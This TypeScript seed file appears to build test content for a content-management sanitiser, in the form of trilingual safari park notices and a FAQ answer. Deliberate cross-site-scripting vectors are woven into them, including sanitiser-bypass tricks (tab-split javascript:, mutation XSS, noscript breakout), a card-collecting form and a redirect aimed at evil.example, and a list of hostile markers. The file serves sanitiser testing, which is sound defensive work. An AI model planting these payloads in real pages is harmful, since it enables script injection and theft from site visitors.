import type { SeedBlock, SeedInfo, Translated } from '../types.ts';
import { block, info, tr } from './text.ts';
import { BENIGN_TEXT, corpusHtml, XSS_PAGES } from './xss-corpus.ts';

/*
 * INTENTIONALLY HOSTILE CONTENT. DO NOT "FIX".
 *
 * The rich text below carries cross-site-scripting vectors and page-hijacking markup on purpose,
 * mixed with ordinary visitor information. It exercises the sanitiser of the content pipeline
 * (DESIGN §4): after sanitising, the text must still read well, and none of the vectors may
 * survive (no script, event handlers, javascript: or data: URLs, svg, math, iframe, object,
 * form, base, fixed overlays, style attributes). Some vectors rely on the browser parsing
 * differently from a naive sanitiser: a tab inside "javascript:", mutation XSS through
 * <math>/<style>, and a </noscript> hidden in an attribute. Every script vector sets
 * window.__xss so that end-to-end tests can prove nothing ran. The full XSS corpus
 * (./xss-corpus.ts) hangs under the notices as the "notice archive": its items' rich text is the
 * corpus, shown on their content detail pages.
 */

/** Code of the raw-HTML block of the Guangzhou home page. */
export const HOSTILE_BLOCK_CODE = 'GZ-INDEX-RAW-HTML';

/** Substrings that must not survive sanitising (tests look for them in the output). */
export const HOSTILE_MARKERS = [
  '<script',
  'onerror',
  'onload',
  'onclick',
  'javascript:',
  '&#106;avascript',
  '<svg',
  '<iframe',
  '<form',
  'position:fixed',
  '<style',
  'http-equiv',
  'data:text/html',
  'jav&#x09;ascript',
  '<math',
  '<mglyph',
  '<noscript',
  'url(javascript',
  '<object',
  '<base',
  'autofocus',
  'onfocus',
  'ontoggle',
] as const;

interface NoticeText {
  title: string;
  open: string;
  sun: string;
  train: string;
  map: string;
  timetable: string;
  metro: string;
  notice: string;
  faq: string;
  app: string;
  rainTitle: string;
  rainBody: string;
  lockers: string;
  thanks: string;
}

/** Ordinary park notices with the hostile vectors woven in. */
const notices = (t: NoticeText): string =>
  `<h3>${t.title}</h3>` +
  `<p>${t.open}<script>window.__xss=1</script>${t.sun}</p>` +
  `<p><img src=x onerror="window.__xss=2" alt="safari train">${t.train}</p>` +
  `<p><a href="javascript:window.__xss=3">${t.map}</a> · <a href="&#106;avascript:alert(1)">${t.timetable}</a> · ` +
  `<a href="https://www.gzmtr.com/" onclick="window.__xss=5">${t.metro}</a></p>` +
  `<svg onload="window.__xss=4" width="10" height="10"><circle r="5"></circle></svg>` +
  `<iframe src="https://evil.example/frame" width="600" height="400"></iframe>` +
  `<div style="position:fixed;inset:0;z-index:99999;background:#fff">${t.notice}</div>` +
  `<form action="https://evil.example/collect" method="post"><input name="card" placeholder="Card number"><button type="submit">OK</button></form>` +
  `<style>body{display:none}</style><meta http-equiv="refresh" content="0;url=https://evil.example/">` +
  `<p><a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">${t.faq}</a> · ` +
  `<a href="jav&#x09;ascript:window.__xss=9">${t.app}</a></p>` +
  `<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=10"></style></mglyph></table></mtext></math>` +
  `<noscript><p title="</noscript><img src=x onerror=window.__xss=11>"></noscript>` +
  `<details open ontoggle="window.__xss=14"><summary>${t.rainTitle}</summary><p>${t.rainBody}</p></details>` +
  `<div style="background:url(javascript:alert(1))"><p>${t.lockers}</p></div>` +
  `<object data="javascript:window.__xss=12"></object><base href="https://evil.example/">` +
  `<input autofocus onfocus="window.__xss=13">` +
  `<p>${t.thanks}</p>`;

const rawHtml: Translated = tr(
  notices({
    title: '園區公告',
    open: '野生動物世界每日 09:30 開園。',
    sun: '請帶備防曬用品和帽子。',
    train: '觀光小火車每十分鐘一班。',
    map: '園區地圖',
    timetable: '小火車時間表',
    metro: '廣州地鐵',
    notice: '考拉森林於本週六重新開放。',
    faq: '遊客常見問題',
    app: '下載園區手機程式',
    rainTitle: '下雨怎麼辦？',
    rainBody: '小火車照常開出，車廂有上蓋；雷暴期間會暫停約三十分鐘。',
    lockers: '正門儲物櫃今日 08:30 起開放，大櫃每次 HK$ 30。',
    thanks: '多謝光臨，祝您玩得開心！',
  }),
  notices({
    title: '园区公告',
    open: '野生动物世界每天09:30开园。',
    sun: '请带好防晒用品和帽子。',
    train: '观光小火车每10分钟一班。',
    map: '园区地图',
    timetable: '小火车时刻表',
    metro: '广州地铁',
    notice: '考拉森林将于本周六重新开放。',
    faq: '游客常见问题',
    app: '下载园区App',
    rainTitle: '下雨怎么办？',
    rainBody: '小火车照常发车，车厢有顶棚；雷暴期间会暂停约30分钟。',
    lockers: '正门储物柜今天08:30起开放，大柜每次HK$ 30。',
    thanks: '感谢光临，祝您玩得开心！',
  }),
  notices({
    title: 'Park notices',
    open: 'The Safari Park opens at 09:30 every day. ',
    sun: 'Bring sun cream and a hat.',
    train: 'The safari train leaves every ten minutes.',
    map: 'Park map',
    timetable: 'Train timetable',
    metro: 'Guangzhou Metro',
    notice: 'Koala Forest reopens this Saturday.',
    faq: 'Visitor FAQ',
    app: 'Get the park app',
    rainTitle: 'What if it rains?',
    rainBody:
      'The safari train still runs and its carriages are covered; it pauses for about thirty minutes during thunderstorms.',
    lockers: 'The lockers by the main gate open at 08:30 today; large lockers are HK$ 30 a time.',
    thanks: 'Thank you for visiting, and have a wonderful day!',
  }),
);

/** Code of the block that carries the XSS corpus (./xss-corpus.ts), a child of the raw block. */
export const XSS_CORPUS_BLOCK_CODE = 'GZ-INDEX-RAW-HTML-ARCHIVE';

const numerals = [
  ['一', '一', '1'],
  ['二', '二', '2'],
  ['三', '三', '3'],
  ['四', '四', '4'],
] as const;

/**
 * The notice archive: an article list under the park notices whose items' rich text is the XSS
 * corpus, split over a few items. The home page shows only their titles and summaries; each
 * item's content detail page shows the whole (sanitised) corpus part.
 */
export const xssCorpusBlock: SeedBlock = block(
  XSS_CORPUS_BLOCK_CODE,
  'ARTICLE_BOX',
  tr('公告存檔', '公告存档', 'Notice archive'),
  XSS_PAGES.map(({ key, classes }, i) => {
    const [hk, cn, en] = numerals[i] ?? ['', '', String(i + 1)];
    return info(
      key,
      tr(`往期公告（${hk}）`, `往期公告（${cn}）`, `Earlier notices (${en})`),
      tr(
        '以往的開園安排及設施公告',
        '以往的开园安排及设施公告',
        'Past opening arrangements and facility notices',
      ),
      tr(
        corpusHtml(classes, BENIGN_TEXT['zh-TW']),
        corpusHtml(classes, BENIGN_TEXT['zh-CN']),
        corpusHtml(classes, BENIGN_TEXT.en),
      ),
    );
  }),
);

/** RAW_HTML block of the Guangzhou home page, hostile on purpose (see the note above). */
export const hostileRawHtmlBlock: SeedBlock = block(
  HOSTILE_BLOCK_CODE,
  'RAW_HTML',
  tr('園區公告', '园区公告', 'Park notices'),
  [
    info(
      'notices',
      tr('今日園區公告', '今日园区公告', 'Today’s notices'),
      tr(
        '開園時間、小火車班次及設施開放情況',
        '开园时间、小火车班次及设施开放情况',
        'Opening time, train frequency and facility updates',
      ),
      rawHtml,
    ),
  ],
  { children: [xssCorpusBlock] },
);

/** A FAQ item whose answer is hostile on purpose (see the note above). */
export const hostileFaqItem: SeedInfo = info(
  'prohibited-items',
  tr('哪些物品不可帶入園區？', '哪些物品不能带入园区？', 'What can’t I bring into the park?'),
  tr('玻璃樽、酒精飲品及無人機', '玻璃瓶、酒精饮料及无人机', 'Glass bottles, alcohol and drones'),
  tr(
    '<p>為了大家的安全，以下物品不可帶入園區：</p><ul><li>玻璃樽及酒精飲品</li><li>無人機及自拍桿<img src=x onerror="window.__xss=6"></li><li>寵物（導盲犬除外）</li></ul><p>詳情請參閱<a href="javascript:window.__xss=7">入園須知</a><script>window.__xss=8</script>，或向正門遊客服務中心查詢。</p>',
    '<p>为了大家的安全，以下物品不能带入园区：</p><ul><li>玻璃瓶及酒精饮料</li><li>无人机及自拍杆<img src=x onerror="window.__xss=6"></li><li>宠物（导盲犬除外）</li></ul><p>详情请查看<a href="javascript:window.__xss=7">入园须知</a><script>window.__xss=8</script>，或向正门游客服务中心咨询。</p>',
    '<p>For everyone’s safety, please leave these at home:</p><ul><li>Glass bottles and alcohol</li><li>Drones and selfie sticks<img src=x onerror="window.__xss=6"></li><li>Pets (guide dogs are welcome)</li></ul><p>See the <a href="javascript:window.__xss=7">park rules</a><script>window.__xss=8</script> or ask at Guest Services by the main gate.</p>',
  ),
);
